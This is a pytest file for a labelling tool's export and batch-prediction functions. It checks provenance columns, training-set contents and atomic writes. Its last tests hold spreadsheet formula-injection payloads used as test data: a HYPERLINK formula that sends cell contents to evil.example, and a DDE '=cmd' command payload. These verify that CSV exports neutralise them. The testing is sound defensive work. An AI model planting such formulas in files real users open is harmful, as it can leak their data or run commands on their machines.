"""Export of label events with provenance, and batch prediction of a file."""

import json

import numpy as np
import pandas as pd
import pytest

from feedback.access import Actor
from feedback.exceptions import InputError
from feedback.files import atomic_write
from feedback.intake import (
    export_bytes,
    export_file_name,
    export_labels,
    export_overview,
    export_training_set,
    predict_file,
)
from feedback.lifecycle import champion_and_challenger, retrain
from feedback.review import record_label

ADMIN = Actor("tester", "admin")  # the acting user of calls that need an admin

FEATURES = [f"px_{i}" for i in range(64)]
PROVENANCE = [
    "event_id",
    "id",
    "label",
    "action",
    "annotator",
    "created_at",
    "shown_prediction",
    "shown_model_version",
    "serving_model_version",
    "served_prediction",
    "is_audit",
    "batch_id",
]


def _read(path, fmt):
    if fmt == "csv":
        return pd.read_csv(path, dtype={"id": str, "label": str, "shown_prediction": str, "served_prediction": str})
    if fmt == "parquet":
        return pd.read_parquet(path)
    return pd.DataFrame([json.loads(line) for line in path.read_text().splitlines() if line.strip()])


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_writes_one_row_per_label_event_with_provenance(ws, ingested, logged, tmp_path, fmt):
    rows = logged(ws)
    shown = rows.loc["d-0100", "predicted"]
    other = "1" if shown != "1" else "2"
    record_label(ws, "d-0100", shown, annotator="ana")
    record_label(ws, "d-0100", other, annotator="ben", comment="looks like a one")
    record_label(ws, "d-0101", None, annotator="ana", action="skip")

    out = export_labels(ws, tmp_path / "out" / f"labels.{fmt}", fmt, actor=ADMIN)

    assert out == tmp_path / "out" / f"labels.{fmt}" and out.is_file()
    assert not list(out.parent.glob("*.partial"))
    frame = _read(out, fmt)
    assert set(PROVENANCE) <= set(frame.columns)
    assert len(frame) == 3
    assert list(frame["id"].astype(str)) == ["d-0100", "d-0100", "d-0101"]
    assert list(frame["action"]) == ["confirm", "correct", "skip"]
    assert list(frame["annotator"]) == ["ana", "ben", "ana"]
    assert list(frame["label"].iloc[:2].astype(str)) == [shown, other] and pd.isna(frame["label"].iloc[2])
    assert list(frame["shown_prediction"].astype(str)) == [shown, shown, rows.loc["d-0101", "predicted"]]
    assert list(frame["serving_model_version"]) == [1, 1, 1]
    assert frame["event_id"].is_monotonic_increasing
    assert frame["comment"].iloc[1] == "looks like a one"


def test_export_of_a_store_without_labels_has_no_rows(ws, tmp_path):
    out = export_labels(ws, tmp_path / "labels.parquet", "parquet", actor=ADMIN)
    frame = pd.read_parquet(out)
    assert frame.empty and set(PROVENANCE) <= set(frame.columns)


def test_unknown_export_format_is_refused_and_writes_no_file(ws, tmp_path):
    with pytest.raises(InputError, match="Unknown export format 'xlsx'"):
        export_labels(ws, tmp_path / "labels.xlsx", "xlsx", actor=ADMIN)
    assert list(tmp_path.iterdir()) == [tmp_path / "home"]


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_training_set_export_holds_exactly_the_rows_a_version_trained_on(
    ws, challenger, logged, digits_frame, tmp_path, fmt
):
    out = export_training_set(ws, 2, tmp_path / f"v2.{fmt}", fmt, actor=ADMIN)
    frame = _read(out, fmt)
    assert list(frame.columns[:5]) == ["id", "label", "source", "model_version", "snapshot_id"]
    assert list(frame.columns[5:]) == FEATURES
    served = logged(ws)
    not_audit = served.index[~served["is_audit"].astype(bool)]
    assert sorted(frame["id"].astype(str)) == sorted([*digits_frame["id"].iloc[:30], *not_audit]), (
        "the seed and every expert label outside the audit slice, nothing else"
    )
    assert (frame["source"] == "seed").sum() == 30 and (frame["source"] == "expert").sum() == len(not_audit)
    truth = digits_frame.set_index("id").loc[frame["id"].astype(str)]
    assert list(frame["label"].astype(str)) == list(truth["label"].astype(str))
    np.testing.assert_array_equal(frame[FEATURES].to_numpy(dtype=float), truth[FEATURES].to_numpy(dtype=float))
    assert set(frame["model_version"]) == {2}
    assert set(frame["snapshot_id"]) == {champion_and_challenger(ws)[1].snapshot_id}

    seed_only = _read(export_training_set(ws, 1, tmp_path / f"v1.{fmt}", fmt, actor=ADMIN), fmt)
    assert len(seed_only) == 30 and set(seed_only["source"]) == {"seed"}


def test_training_set_export_refuses_an_unknown_version_or_a_lost_snapshot_and_writes_nothing(ws, challenger, tmp_path):
    with pytest.raises(InputError, match="There is no model version 9; the versions are 1, 2."):
        export_training_set(ws, 9, tmp_path / "v9.csv", actor=ADMIN)
    (ws.snapshots_dir / f"{champion_and_challenger(ws)[1].snapshot_id}.parquet").unlink()
    with pytest.raises(InputError, match="snapshot .* of version 2 is missing"):
        export_training_set(ws, 2, tmp_path / "v2.csv", actor=ADMIN)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home"]


def test_export_bytes_are_the_file_an_export_writes(ws, challenger, tmp_path):
    assert export_file_name("parquet") == "labels.parquet" and export_file_name("csv", 2) == "training-set-v2.csv"
    labels = export_labels(ws, tmp_path / "labels.csv", "csv", actor=ADMIN)
    assert export_bytes(ws, "csv", actor=ADMIN) == labels.read_bytes()
    training = export_training_set(ws, 2, tmp_path / "v2.jsonl", "jsonl", actor=ADMIN)
    assert export_bytes(ws, "jsonl", 2, actor=ADMIN) == training.read_bytes()
    with pytest.raises(InputError, match="Unknown export format 'xls'"):
        export_bytes(ws, "xls", actor=ADMIN)


def _check_scored(out, ids):
    scored = pd.read_csv(out, dtype={"id": str, "predicted": str})
    proba_cols = [f"proba_{d}" for d in range(10)]
    assert list(scored.columns) == ["id", "predicted", *proba_cols]
    assert list(scored["id"]) == list(ids)
    np.testing.assert_allclose(scored[proba_cols].sum(axis=1), 1.0, atol=1e-9)
    assert list(scored["predicted"]) == [c.removeprefix("proba_") for c in scored[proba_cols].idxmax(axis=1)]
    return scored


def test_predict_writes_id_predicted_and_probabilities_and_logs_nothing(ws, production_frame, tmp_path, state, logged):
    frame = production_frame(25)
    frame.to_csv(tmp_path / "new.csv", index=False)
    before = state(ws)

    out = predict_file(ws, tmp_path / "new.csv", tmp_path / "scored.csv")

    _check_scored(out, frame["id"])
    assert state(ws) == before


def test_predict_with_a_given_version_uses_that_model(ws, ingested, logged, write_truth, production_frame, tmp_path):
    from feedback.review import import_labels

    import_labels(ws, write_truth(list(logged(ws).index)), annotator="oracle")
    retrain(ws, actor=ADMIN)
    frame = production_frame(200, start=300)
    frame.to_csv(tmp_path / "new.csv", index=False)

    v1 = _check_scored(predict_file(ws, tmp_path / "new.csv", tmp_path / "v1.csv"), frame["id"])
    v2 = _check_scored(predict_file(ws, tmp_path / "new.csv", tmp_path / "v2.csv", version=2), frame["id"])

    assert not np.allclose(v1.filter(like="proba_").to_numpy(), v2.filter(like="proba_").to_numpy())


def test_predict_refuses_an_unknown_version_and_a_bad_file(ws, production_frame, tmp_path):
    frame = production_frame(5)
    frame.to_csv(tmp_path / "new.csv", index=False)
    with pytest.raises(InputError, match="There is no model version 7"):
        predict_file(ws, tmp_path / "new.csv", tmp_path / "a.csv", version=7)
    frame.drop(columns="px_9").to_csv(tmp_path / "bad.csv", index=False)
    with pytest.raises(InputError, match="lacks feature column.*px_9"):
        predict_file(ws, tmp_path / "bad.csv", tmp_path / "b.csv")
    assert not (tmp_path / "a.csv").exists() and not (tmp_path / "b.csv").exists()


def test_export_names_the_model_version_that_served_each_item(ws, challenger, production_frame, tmp_path):
    from feedback.intake import ingest_predictions
    from feedback.lifecycle import promote

    production_frame(5).to_csv(tmp_path / "before.csv", index=False)
    production_frame(5, start=50).to_csv(tmp_path / "after.csv", index=False)
    ingest_predictions(ws, tmp_path / "before.csv")  # served by v1
    promote(ws, 2, reason="test", actor=Actor("ana", "admin"))
    ingest_predictions(ws, tmp_path / "after.csv")  # served by v2
    record_label(ws, "d-0150", None, annotator="ana", action="skip")
    record_label(ws, "d-0100", None, annotator="ana", action="skip")

    frame = pd.read_csv(export_labels(ws, tmp_path / "labels.csv", actor=ADMIN), dtype={"id": str}).set_index("id")

    assert frame.loc["d-0150", ["serving_model_version", "shown_model_version"]].tolist() == [2, 2]
    assert frame.loc["d-0100", ["serving_model_version", "shown_model_version"]].tolist() == [1, 1]
    assert len(frame) == 102  # the 100 events of the store's history plus these two


def test_export_lists_events_in_the_order_they_were_recorded(ws, ingested, tmp_path):
    for item in ("d-0105", "d-0101", "d-0103"):
        record_label(ws, item, None, annotator="ana", action="skip")

    frame = pd.read_csv(export_labels(ws, tmp_path / "labels.csv", actor=ADMIN), dtype={"id": str})

    assert list(frame["id"]) == ["d-0105", "d-0101", "d-0103"]
    assert frame["event_id"].is_monotonic_increasing


def test_a_write_that_fails_midway_leaves_neither_the_file_nor_its_temporary(tmp_path):
    target = tmp_path / "labels.csv"
    with pytest.raises(RuntimeError, match="disk full"), atomic_write(target) as partial:
        partial.write_text("id,label\nd-1,")
        raise RuntimeError("disk full")
    assert list(tmp_path.iterdir()) == []
    with atomic_write(target) as partial:
        partial.write_text("id,label\n")
    assert target.read_text() == "id,label\n" and list(tmp_path.iterdir()) == [target]


def test_export_overview_counts_the_events_and_lists_what_each_version_trained_on(ws, challenger, state):
    overview = export_overview(ws)
    assert (overview.label_events, overview.labelled_items) == (state(ws)["label_events"], 100)
    assert [(v.version, v.alias, v.n_seed) for v in overview.versions] == [(2, "challenger", 30), (1, "champion", 30)]
    assert overview.versions[0].n_labels == challenger.n_train - 30


FORMULAS = {
    "annotator": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "reason_code": "@SUM(A1:A9)",
    "comment": "-2+3",
}
MORE_FORMULAS = {"annotator": "+1", "reason_code": "\rcmd", "comment": "\t=1+1"}


def _record_formulas(ws, logged):
    predicted = logged(ws).loc["d-0100", "predicted"]
    record_label(ws, "d-0100", predicted, seconds_spent=-2.5, **FORMULAS)
    record_label(ws, "d-0101", None, action="skip", **MORE_FORMULAS)
    record_label(ws, "d-0102", None, action="skip", annotator="ana", comment="fine - no formula")


def _text(path, fmt):
    return _read(path, fmt).astype({c: str for c in ["annotator", "reason_code", "comment"]})


def test_csv_export_prefixes_formula_like_text_with_an_apostrophe_and_keeps_numbers(
    ws, ingested, logged, tmp_path, row_counts
):
    _record_formulas(ws, logged)
    before = row_counts(ws)

    frame = _text(export_labels(ws, tmp_path / "labels.csv", "csv", actor=ADMIN), "csv")

    assert row_counts(ws) == before

    for row, written in ((0, FORMULAS), (1, MORE_FORMULAS)):
        assert frame.loc[row, list(written)].tolist() == ["'" + v for v in written.values()]
    assert frame.loc[2, ["annotator", "comment"]].tolist() == ["ana", "fine - no formula"]
    assert frame.loc[0, "seconds_spent"] == -2.5, "a negative number stays a number"
    assert frame["served_confidence"].dtype == float and frame["event_id"].dtype == np.int64


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl_exports_keep_the_raw_text(ws, ingested, logged, tmp_path, fmt):
    _record_formulas(ws, logged)

    frame = _text(export_labels(ws, tmp_path / f"labels.{fmt}", fmt, actor=ADMIN), fmt)

    for row, written in ((0, FORMULAS), (1, MORE_FORMULAS)):
        assert frame.loc[row, list(written)].tolist() == list(written.values())
    assert frame.loc[0, "seconds_spent"] == -2.5


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_training_set_export_neutralises_formula_like_labels_and_features_in_csv_only(empty_ws, tmp_path, fmt):
    from feedback.lifecycle import init_task

    seed = pd.DataFrame(
        {
            "id": [f"s-{i}" for i in range(8)],
            "x": [-1.5, -0.5, 0.5, 1.5] * 2,
            "note": ["=cmd|' /C calc'!A0", "@SUM(1)", "plain", "+1"] * 2,
            "label": ["-down", "-down", "@up", "@up"] * 2,
        }
    )
    seed.to_csv(tmp_path / "seed.csv", index=False)
    init_task(empty_ws, tmp_path / "seed.csv", "label", audit_share=0.1)

    frame = _read(export_training_set(empty_ws, 1, tmp_path / f"v1.{fmt}", fmt, actor=ADMIN), fmt).set_index("id")

    prefix = "'" if fmt == "csv" else ""
    assert frame.loc["s-0", ["label", "note"]].tolist() == [prefix + "-down", prefix + "=cmd|' /C calc'!A0"]
    assert frame.loc["s-2", ["label", "note"]].tolist() == [prefix + "@up", "plain"]
    assert frame.loc["s-3", "note"] == prefix + "+1"
    assert frame.loc["s-0", "x"] == -1.5, "a negative number stays a number"
